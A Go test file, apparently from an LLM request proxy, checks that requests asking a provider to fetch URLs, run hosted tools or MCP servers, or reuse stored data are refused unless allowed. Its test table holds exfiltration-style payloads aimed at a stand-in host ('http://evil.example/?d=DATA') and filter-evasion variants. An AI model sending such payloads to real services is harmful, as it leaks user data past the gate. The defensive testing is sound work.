package llm

import (
	"net/http"
	"strings"
	"testing"

	"github.com/clawjail/clawjail/internal/problem"
)

const pathMessages = "/v1/messages"

// hostedRequests are requests in which the provider would do something by itself, and what that is called.
var hostedRequests = []struct{ path, more, name string }{
	{pathResponses, `"tools":[{"type":"mcp","server_label":"e","server_url":"http://evil.example/?d=DATA","require_approval":"never"}]`, "mcp"},
	{pathResponses, `"tools":[{"type":"web_search"}]`, "web_search"},
	{pathResponses, `"tools":[{"type":"web_search_preview_2025_03_11"}]`, "web_search"},
	{pathResponses, `"tools":[{"type":"function","name":"f"},{"type":"code_interpreter","container":{"type":"auto"}}]`, "code_interpreter"},
	{pathResponses, `"tools":[{"type":"shell","environment":{"type":"container_reference","container_id":"cntr_of_another"}}]`, "stored"},
	{pathResponses, `"tools":[{"type":"shell","environment":{"type":"container_auto"}}]`, "code_execution"},
	{pathResponses, `"tools":[{"type":"file_search","vector_store_ids":["v"]}]`, "file_search"},
	{pathResponses, `"tools":[{"type":"image_generation"}]`, "image_generation"},
	{pathResponses, `"Tools":[{"Type":"mcp"}]`, "mcp"},
	{pathResponses, `"t\u006fols":[{"type":"m\u0063p"}]`, "mcp"},
	{pathResponses, `"input":[{"role":"user","content":[{"type":"input_file","file_url":"http://evil.example/f?d=DATA"}]}]`, "fetch"},
	{pathResponses, `"input":[{"role":"user","content":[{"type":"input_image","image_url":"HTTPS:\/\/evil.example/i.png"}]}]`, "fetch"},
	{pathResponses, `"input":[{"role":"user","content":[{"type":"input_file","file_id":"file-of-another"}]}]`, "stored"},
	{pathResponses, `"input":[{"type":"item_reference","id":"msg_of_another"}]`, "stored"},
	{pathResponses, `"previous_response_id":"resp_of_another"`, "stored"},
	{pathResponses, `"conversation":{"id":"conv_of_another"}`, "stored"},
	{pathResponses, `"prompt":{"id":"pmpt_of_another"}`, "stored"},
	{pathResponses, `"store":true`, "stored"},
	{pathChat, `"store":true`, "stored"},
	{pathChat, `"messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"http://evil.example/i.png?d=DATA"}}]}]`, "fetch"},
	{pathChat, `"messages":[{"role":"tool","content":[{"type":"image_url","image_url":{"url":" //evil.example/i.png"}}]}]`, "fetch"},
	{pathChat, `"something_new":{"deep":["s3://evil/DATA"]}`, "something_new"},
	{pathChat, `"web_search_options":{}`, "web_search"},
	{pathChat, `"plugins":[{"id":"web"}]`, "plugins"},
	{pathChat, `"service_tier":"priority"`, "priority"},
	{pathMessages, `"speed":"fast"`, "priority"},
	{pathMessages, `"inference_geo":"us"`, "priority"},
	{pathChat, `"extra_body":{"service_tier":"priority"}`, "priority"},
	// Addresses as the URL standard reads them, and where an address is all that can be.
	{pathChat, `"messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"https:evil.example/?DATA"}}]}]`, "fetch"},
	{pathChat, `"messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"evil.example/?DATA"}}]}]`, "fetch"},
	{pathChat, `"messages":[{"role":"user","content":[{"type":"image_url","image_url":"h\tttps:evil.example"}]}]`, "fetch"},
	{pathChat, `"messages":[{"role":"user","content":[{"type":"image_url","image_url":{"type":"search_result","url":"https://evil.example/?DATA"}}]}]`, "fetch"},
	{pathChat, `"messages":[{"role":"user","content":[{"type":"file_data","fileData":{"fileUri":"evil.example/DATA"}}]}]`, "filedata"},
	{pathChat, `"messages":[{"role":"user","content":[{"type":"input_audio","input_audio":{"data":"https://evil.example/x","format":"wav"}}]}]`, "fetch"},
	{pathChat, `"messages":[{"role":"user","content":[{"type":"search_result","source":"https://evil.example"}]}]`, "source"},
	{pathChat, `"parameters":{"image":"https://evil.example"}`, "parameters"},
	{pathMessages, `"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https:evil.example/i.png"}}]}]`, "fetch"},
	// Tools that other dialects name in other ways, or elsewhere.
	{pathChat, `"tools":[{"google_search":{}}]`, "google_search"},
	{pathChat, `"tools":[{"name":"f","urlContext":{}}]`, "urlcontext"},
	{pathChat, `"extra_body":{"tools":[{"type":"web_search"}]}`, "web_search"},
	{pathChat, `"extra_body":{"google":{"cached_content":"cachedContents/of-another"}}`, "stored"},
	{pathChat, `"enable_search":true`, "web_search"},
	{pathChat, `"enable-search":true`, "enable_search"},
	{pathChat, `"urlContext":{}`, "urlcontext"},
	{pathChat, `"codeExecution":{}`, "codeexecution"},
	{pathResponses, `"input":[{"type":"additional_tools","tools":[{"type":"web_search"}]}]`, "web_search"},
	// Members and types that are not listed, wherever they are, and in the dialects of others.
	{pathChat, `"brand_new":false`, "brand_new"},
	{pathChat, `"Brand-New":"x"`, "brand_new"},
	{pathChat, `"messages":[{"role":"user","content":"x","brand_new":1}]`, "brand_new"},
	{pathChat, `"messages":[{"role":"user","content":[{"type":"text","text":"x","brand_new":[]}]}]`, "brand_new"},
	{pathChat, `"extra_body":{"brand_new":1}`, "brand_new"},
	{pathChat, `"tools":[{"type":"function","function":{"name":"f","brand_new":1}}]`, "brand_new"},
	{pathChat, `"tools":[{"type":"function","brand_new":1,"function":{"name":"f"}}]`, "brand_new"},
	{pathChat, `"tools":[{"type":"brand-new"}]`, "brand_new"},
	{pathResponses, `"brand_new":"x"`, "brand_new"},
	{pathResponses, `"input":[{"type":"brand_new","call_id":"c"}]`, "brand_new"},
	{pathResponses, `"input":[{"type":"message","role":"user","content":"x","brand_new":1}]`, "brand_new"},
	{pathResponses, `"input":[{"type":"mcp_approval_response","approval_request_id":"r","approve":true}]`, "mcp"},
	{pathResponses, `"tools":[{"type":"namespace","name":"n","tools":[{"type":"web_search"}]}]`, "web_search"},
	{pathMessages, `"brand_new":1`, "brand_new"},
	{pathMessages, `"messages":[{"role":"user","content":[{"type":"brand_new","text":"x"}]}]`, "brand_new"},
	{pathMessages, `"messages":[{"role":"assistant","content":[{"type":"server_tool_use","id":"s","name":"web_search","input":{"query":"x"}}]}]`, "web_search"},
	{pathMessages, `"messages":[{"role":"assistant","content":[{"type":"server_tool_use","id":"s","name":"bash_code_execution","input":{}}]}]`, "code_execution"},
	{pathMessages, `"messages":[{"role":"user","content":[{"type":"image","source":"https://evil.example/i.png"}]}]`, "fetch"},
	{pathMessages + "/count_tokens", `"brand_new":1`, "brand_new"},
	{"/v1/embeddings", `"brand_new":1`, "brand_new"},
	{"/v1/embeddings", `"input":[{"image":"https://evil.example/i.png"}]`, "fetch"},
	{"/api/chat", `"brand_new":1`, "brand_new"},
	{"/api/chat", `"messages":[{"role":"user","images":["https://evil.example/i.png"]}]`, "fetch"},
	{"/api/generate", `"images":["//evil.example/i.png"]`, "fetch"},
	{"/api/generate", `"brand_new":1`, "brand_new"},
	// References to what a provider keeps that do not say so.
	{pathResponses, `"input":[{"id":"msg_of_another"}]`, "stored"},
	{pathResponses, `"input":[{"content":"x","id":"msg_of_another"}]`, "stored"},
	{pathResponses, `"input":[{"type":"message","role":"assistant","content": [ ],"id":"msg_of_another"}]`, "stored"},
	{pathChat, `"messages":[{"role":"assistant","audio":{"id":"audio_of_another"}}]`, "stored"},
	// Sources of what was searched need what has searched.
	{pathMessages, `"messages":[{"role":"user","content":[{"type":"web_search_tool_result","tool_use_id":"t","content":[{"url":"https://a.example","type":"web_search_result","title":"t","encrypted_content":"AA"}]}]}]`, "web_search"},
	{pathResponses, `"input":[{"type":"web_search_call","id":"ws_1","status":"completed","action":{"type":"open_page","url":"https://a.example"}}]`, "web_search"},
	{pathMessages, `"tools":[{"type":"web_search_20250305","name":"web_search"}]`, "web_search"},
	{pathMessages, `"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]`, "web_fetch"},
	{pathMessages, `"tools":[{"type":"code_execution_20250522","name":"c"}]`, "code_execution"},
	{pathMessages, `"mcp_servers":[{"type":"url","url":"https://evil.example/sse","name":"e"}]`, "mcp"},
	{pathMessages, `"container":"container_of_another"`, "code_execution"},
	{pathMessages, `"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://evil.example/i.png"}}]}]`, "fetch"},
	{pathMessages, `"messages":[{"role":"user","content":[{"type":"document","source":{"type":"file","file_id":"f"}}]}]`, "stored"},
}

func modelOf(path string) string {
	switch {
	case strings.HasPrefix(path, pathMessages):
		return "anthropic-1"
	case strings.HasPrefix(path, "/api/"):
		return "ollama-1"
	}
	return "openai-1"
}

func TestWhatAProviderDoesByItselfIsRefusedUnlessItIsAllowedByName(t *testing.T) {
	w := newFixture(t, jsonAnswer(http.StatusOK, chatAnswer))
	for _, c := range hostedRequests {
		body := `{"model":"` + modelOf(c.path) + `",` + c.more + `}`
		w.allowHosted()
		before := w.reached()
		got := w.post(c.path, body)
		if got.header.Get(headerRefusal) != problem.HostedDenied || w.reached() != before || !strings.Contains(got.body, "--allow-hosted "+c.name+".") {
			t.Errorf("%s: %d %s, %d reached", c.more, got.status, got.body, w.reached()-before)
		}
		w.allowHosted("fetch_nothing", c.name)
		if got := w.post(c.path, body); w.reached() != before+1 {
			t.Errorf("%s, which is allowed: %d %s", c.more, got.status, got.body)
		}
	}
	w.allowHosted()
	if got := w.post(pathChat, `{"model":"openai-research-1"}`); got.status != http.StatusOK {
		t.Errorf("a model that is named after research: %d %s", got.status, got.body)
	}
	if got := w.post(pathChat, `{"model":"openai-search-1"}`); got.header.Get(headerRefusal) != problem.HostedDenied {
		t.Errorf("a model that searches: %d %s", got.status, got.body)
	}
}

func TestWhatStaysWithTheModelPasses(t *testing.T) {
	w := newFixture(t, jsonAnswer(http.StatusOK, chatAnswer))
	for _, c := range []struct{ path, more string }{
		{pathChat, `"messages":[{"role":"user","content":"open http://site.example/ and https://other.example"}]`},
		{pathChat, `"messages":[{"role":"user","content":[{"type":"text","text":"https://site.example"},{"type":"image_url","image_url":{"url":"data:image/png;base64,AAAA"}}]}]`},
		{pathChat, `"tools":[{"type":"function","function":{"name":"f","description":"see https://docs.example","parameters":{"$schema":"https://json-schema.org/x","properties":{"url":{"default":"https://a.example"}}}}}]`},
		{pathChat, `"messages":[{"role":"assistant","tool_calls":[{"id":"1","type":"function","function":{"name":"f","arguments":"{\"url\":\"https://a.example\"}"}}]}],"store":false,"service_tier":"auto"`},
		{pathChat, `"response_format":{"type":"json_schema","json_schema":{"schema":{"$id":"https://a.example"}}},"tools":null,"store":null`},
		{pathResponses, `"input":"http://site.example","instructions":"https://site.example","tools":[{"type":"function","name":"f","parameters":{}},{"type":"custom","name":"c"}]`},
		{pathResponses, `"input":[{"type":"function_call_output","call_id":"c","output":"https://site.example"},{"role":"user","content":[{"type":"input_image","image_url":"data:image/png;base64,AA"}]}]`},
		{pathMessages, `"system":[{"type":"text","text":"https://a.example"}],"tools":[{"name":"f","input_schema":{"$id":"https://a.example"}},{"type":"bash_20250124","name":"bash"}]`},
		{pathMessages, `"messages":[{"role":"assistant","content":[{"type":"tool_use","id":"t","name":"f","input":{"url":"https://a.example","file_id":"mine"}}]},{"role":"user","content":[{"type":"tool_result","tool_use_id":"t","content":"https://a.example"}]}]`},
		{pathMessages, `"speed":"standard","service_tier":"auto","inference_geo":"global"`},
		{pathMessages, `"messages":[{"role":"user","content":[{"type":"document","source":{"type":"text","media_type":"text/plain","data":"https://a.example is a page"}},{"type":"search_result","source":"https://a.example","title":"t","content":[{"type":"text","text":"x"}]}]}]`},
		{pathResponses, `"tools":[{"type":"computer_use_preview","display_width":1,"display_height":1,"environment":"browser"},{"type":"computer"},{"type":"shell"},{"type":"shell","environment":{"type":"local","skills":[{"name":"s","description":"d","path":"/s"}]}},{"type":"namespace","name":"n","description":"d","tools":[{"type":"function","name":"f"}]},{"type":"tool_search"}]`},
		{pathResponses, `"input":[{"type":"computer_call","id":"cu_1","call_id":"c","status":"completed","action":{"type":"open_url","url":"https://a.example","search":"x"},"pending_safety_checks":[]},{"type":"computer_call_output","call_id":"c","acknowledged_safety_checks":[{"id":"k","code":"x","message":"m"}],"output":{"type":"computer_screenshot","image_url":"data:image/png;base64,AA"}}]`},
		{pathResponses, `"input":[{"type":"function_call","id":"fc_1","call_id":"c","name":"web_search","arguments":"{\"search\":1}","parsed_arguments":{"url":"https://a.example"}},{"type":"function_call_output","call_id":"c","output":[{"type":"input_text","text":"https://a.example"}]}]`},
		{pathMessages, `"tools":[{"type":"computer_20250124","name":"computer","display_width_px":1,"display_height_px":1,"display_number":1},{"type":"computer_toolset_20260801"},{"type":"text_editor_20250728","name":"str_replace_based_edit_tool","max_characters":1}]`},
		{pathMessages, `"messages":[{"role":"assistant","content":[{"type":"tool_use","id":"t","name":"computer","input":{"action":"goto","url":"https://a.example","mcp_servers":1},"toolset_name":"c"}]},{"role":"user","content":[{"type":"tool_result","tool_use_id":"t","content":[{"type":"image","source":{"type":"base64","media_type":"image/png","data":"//8="}}]}]}]`},
		{pathMessages, `"tools":[{"name":"f","input_schema":{"properties":{"web_search":{}},"examples":[{"url":"https://a.example","mcp_servers":[]}]},"input_examples":[{"url":"https://a.example","search":"x","file_id":"f"}]}]`},
		{pathChat, `"tools":[{"type":"function","function":{"name":"f","parameters":{"examples":[{"image_url":"https://a.example","plugins":1}]}}}],"tool_choice":{"type":"function","function":{"name":"f"}}`},
		{pathChat, `"messages":[{"role":"user","content":[{"type":"input_audio","input_audio":{"data":"//uQxAAAAAAAAAAAAAAAAAAAAAAASW5mbwAAAA8=","format":"mp3"}}]}]`},
		{pathChat, `"messages":[{"role":"user","content":[{"type":"file","file":{"file_data":"//8AAA==","filename":"https.wav"}}]},{"role":"assistant","content":null,"reasoning_details":[{"type":"reasoning.text","text":"https://a.example"}],"tool_calls":[{"id":"1","type":"function","function":{"name":"search","arguments":"{}"},"extra_content":{"google":{"thought_signature":"AA"}}}]}]`},
		{pathChat, `"extra_body":{"google":{"thinking_config":{"include_thoughts":true}},"top_k":1},"metadata":{"search":"https://a.example","plugins":"x"}`},
		{"/api/chat", `"messages":[{"role":"user","content":"x","images":["/9j/4AAQ","//8A"]}],"options":{"num_ctx":1},"format":{"type":"object","properties":{"url":{}}}`},
		{"/api/generate", `"prompt":"https://a.example","images":["//8A"],"context":[1],"keep_alive":"5m"`},
		{pathMessages + "/count_tokens", `"messages":[{"role":"user","content":"https://a.example"}],"system":"search"`},
		{pathChat, `"messages":[{"role":"user","content":"x"}],"web_search_options":null,"brand_new":null`},
		{pathMessages, `"tools":[{"name":"google_search","description":"its own","input_schema":{},"cache_control":{"type":"ephemeral","ttl":"1h"},"strict":true}]`},
		{pathChat, `"enable_search":false,"use_beam_search":true,"top_k":5,"chat_template_kwargs":{"enable_thinking":false},"tools":[{"function":{"name":"f","parameters":{"search":"x"}}}]`},
		{pathChat, `"messages":[{"role":"user","content":[{"type":"input_audio","input_audio":{"data":"UklGRg==","format":"wav"}},{"type":"file","file":{"filename":"a.pdf","file_data":"data:application/pdf;base64,AA"}}]}]`},
		{pathResponses, `"input":[{"type":"message","id":"msg_1","role":"assistant","content":[{"type":"output_text","text":"x"}]},{"type":"reasoning","id":"rs_1","summary":[],"encrypted_content":"AA"},{"type":"function_call","id":"fc_1","call_id":"c","name":"f","arguments":"{}"}]`},
		{"/v1/embeddings", `"input":["https://a.example","b"]`},
	} {
		before := w.reached()
		if got := w.post(c.path, `{"model":"`+modelOf(c.path)+`",`+c.more+`}`); w.reached() != before+1 {
			t.Errorf("%s: %d %s", c.more, got.status, got.body)
		}
	}
}

// Some servers merge extra_body into the request, where it would be another model, or another length, than what was decided about.
func TestWhatIsDecidedAboutIsNotInAnObjectThatServersMerge(t *testing.T) {
	w := newFixture(t, jsonAnswer(http.StatusOK, chatAnswer))
	post := func(key, value, wrapped string) reply {
		return w.post(pathChat, `{"model":"openai-1","max_tokens":10,"messages":[],"extra_body":`+strings.ReplaceAll(wrapped, "MEMBER", `"`+key+`":`+value)+`}`)
	}
	for _, allowed := range [][]string{nil, {"extra_body", "model"}} {
		w.allowHosted(allowed...)
		for _, key := range append(readKeys(), "MODEL", "Max_Tokens", "\u017ftream", `mod\u0065l`) {
			for _, wrapped := range []string{"{MEMBER}", `{"top_k":1,MEMBER}`, `{"Extra_Body":{MEMBER}}`, `[{MEMBER}]`} {
				before := w.reached()
				if got := post(key, "1", wrapped); got.status != http.StatusBadRequest || w.reached() != before {
					t.Errorf("%s in %s: %d %s", key, wrapped, got.status, got.body)
				}
			}
		}
	}
	for _, wrapped := range []string{"{MEMBER}", `{"extra_body":{MEMBER}}`} {
		if got := post("top_k", "1", wrapped); got.status != http.StatusOK {
			t.Errorf("what is not read, in %s: %d %s", wrapped, got.status, got.body)
		}
	}
	if got := post("model", `"openai-search-1"`, "{MEMBER}"); got.status != http.StatusBadRequest {
		t.Errorf("a model that searches: %d %s", got.status, got.body)
	}
}

func TestResponsesAreNotKeptByTheProvider(t *testing.T) {
	w := newFixture(t, jsonAnswer(http.StatusOK, chatAnswer))
	const asked = `"include":["reasoning.encrypted_content"]`
	for _, c := range []struct{ body, want string }{
		{`{"model":"openai-1","input":"x"}`, `{` + asked + `,"store":false,"model":"openai-1","input":"x"}`},
		{`{"model":"openai-1","store":null,"input":"x"}`, `{` + asked + `,"model":"openai-1","store":false,"input":"x"}`},
		{`{"model":"openai-1","include":null}`, `{"store":false,"model":"openai-1",` + asked + `}`},
		{`{"include": [ ],"model":"openai-1"}`, `{"store":false,` + strings.Replace(asked, ":", ": ", 1) + `,"model":"openai-1"}`},
		{`{"include":["a"],"model":"openai-1"}`, `{"store":false,"include":["reasoning.encrypted_content","a"],"model":"openai-1"}`},
		{`{"include":["a","reasoning.encrypted_content"],"model":"openai-1"}`, `{"store":false,"include":["a","reasoning.encrypted_content"],"model":"openai-1"}`},
		{`{"model":"openai-1","store":false,"input":"x"}`, `{"model":"openai-1","store":false,"input":"x"}`},
	} {
		w.post(pathResponses, c.body)
		if _, got := w.last(); got != c.want {
			t.Errorf("the provider got %s, want %s", got, c.want)
		}
	}
	w.allowHosted(hostedStored)
	w.post(pathResponses, `{"model":"openai-1","input":"x"}`)
	if _, got := w.last(); got != `{"model":"openai-1","input":"x"}` {
		t.Errorf("where it is allowed the provider got %s", got)
	}
}

// allowHosted sets what all providers may do by themselves.
func (w *fixture) allowHosted(names ...string) {
	w.mu.Lock()
	defer w.mu.Unlock()
	for i := range w.providers {
		w.providers[i].Hosted = names
	}
}

func FuzzHosted(f *testing.F) {
	for _, c := range hostedRequests {
		f.Add(`{"model":"m",` + c.more + `}`)
	}
	f.Fuzz(func(t *testing.T, body string) {
		for _, e := range endpoints() {
			a, p := readAsk([]byte(body), e)
			if p != nil {
				continue
			}
			if _, p := checkHosted(readFields(), a, e, nil); p != nil {
				continue
			}
			if e.path == pathResponses {
				a.keepNothing()
			}
			sent := string(a.body)
			if again, p := readAsk(a.body, e); p != nil || string(again.body) != sent {
				t.Fatalf("%s: %s becomes %s, which is read as %s, %v", e.path, body, sent, again.body, p)
			}
			if _, p := checkHosted(readFields(), a, e, nil); p != nil {
				t.Fatalf("%s: %s becomes %s, which is refused: %v", e.path, body, sent, p)
			}
			if e.path == pathResponses || a.added == nil {
				continue
			}
			if a.takeBack(); string(a.body) != body {
				t.Fatalf("%s: %s becomes %s when what was added is taken out", e.path, body, a.body)
			}
		}
	})
}
